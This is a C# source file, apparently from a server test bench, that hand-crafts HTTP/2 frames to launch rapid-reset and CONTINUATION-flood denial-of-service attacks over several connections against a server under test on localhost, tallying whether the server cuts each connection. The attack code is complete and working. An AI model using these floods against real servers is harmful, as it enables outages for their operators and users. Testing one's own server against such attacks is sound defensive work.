using System.Buffers.Binary;
using System.Text;

namespace Postroom.Bench.Attacks;

/// <summary>Attacks by frames of HTTP/2, written by hand (RFC 9113 §4, §6; RFC 7541 §6).</summary>
internal static class Http2Attacks
{
    private const int Connections = 8;
    private const int StreamsMax = 20_000;
    private const int FramesMax = 20_000;
    private const byte Headers = 1;
    private const byte Reset = 3;
    private const byte Settings = 4;
    private const byte Continuation = 9;
    private const byte EndHeaders = 4;

    private static readonly byte[] Preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8.ToArray();

    public static IEnumerable<Attack> All =>
    [
        new("HTTP/2 rapid reset", $"{Connections} connections, up to {StreamsMax:N0} streams each, opened and reset", (server, tally) =>
            ManyAsync(server, tally, ResetAsync)),
        new("HTTP/2 CONTINUATION flood", $"{Connections} connections, one header of up to {FramesMax:N0} frames each", (server, tally) =>
            ManyAsync(server, tally, ContinueAsync)),
    ];

    private static Task ManyAsync(AttackedServer server, Tally tally, Func<RawConnection, Task<int>> attack) =>
        Task.WhenAll(Enumerable.Range(0, Connections).Select(async _ =>
        {
            using var connection = await RawConnection.OpenHttp2Async(server.SecurePort);
            await connection.TrySendAsync((byte[])[.. Preface, .. Frame(Settings, 0, 0, [])]);
            using var end = new CancellationTokenSource(TimeSpan.FromSeconds(30));
            var drained = connection.DrainAsync(end.Token);
            var sent = await attack(connection);
            var ended = await Task.WhenAny(drained, Task.Delay(TimeSpan.FromSeconds(2))) == drained;
            tally.Add(ended ? "closed by the server" : $"open after {sent:N0}");
            await end.CancelAsync();
            await drained;
        }));

    private static async Task<int> ResetAsync(RawConnection connection)
    {
        // :method POST, :scheme https, :path and :authority as literals (RFC 7541, Appendix A: 3, 7, 4, 1).
        byte[] block = [0x83, 0x87, .. Literal(4, "/api/contact"), .. Literal(1, "localhost")];
        var sent = 0;
        for (var stream = 1; sent < StreamsMax; stream += 2, sent++)
        {
            byte[] frames = [.. Frame(Headers, EndHeaders, stream, block), .. Frame(Reset, 0, stream, [0, 0, 0, 8])];
            if (!await connection.TrySendAsync(frames))
            {
                break;
            }
        }

        return sent;
    }

    private static async Task<int> ContinueAsync(RawConnection connection)
    {
        await connection.TrySendAsync(Frame(Headers, 0, 1, [0x83, 0x87]));
        byte[] field = [0, 3, .. "x-a"u8, .. Length(1000), .. Encoding.ASCII.GetBytes(new string('a', 1000))];
        var frame = Frame(Continuation, 0, 1, [.. field, .. field, .. field, .. field]);
        var sent = 0;
        while (sent < FramesMax && await connection.TrySendAsync(frame))
        {
            sent++;
        }

        return sent;
    }

    private static byte[] Literal(byte index, string value) =>
        [index, .. Length(value.Length), .. Encoding.ASCII.GetBytes(value)];

    /// <summary>An integer with a prefix of 7 bits (RFC 7541 §5.1).</summary>
    private static byte[] Length(int length)
    {
        if (length < 127)
        {
            return [(byte)length];
        }

        List<byte> bytes = [127];
        for (length -= 127; length >= 128; length >>= 7)
        {
            bytes.Add((byte)(length % 128 + 128));
        }

        return [.. bytes, (byte)length];
    }

    private static byte[] Frame(byte type, byte flags, int stream, byte[] payload)
    {
        var frame = new byte[9 + payload.Length];
        BinaryPrimitives.WriteInt32BigEndian(frame, payload.Length << 8 | type);
        frame[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame.AsSpan(9));
        return frame;
    }
}
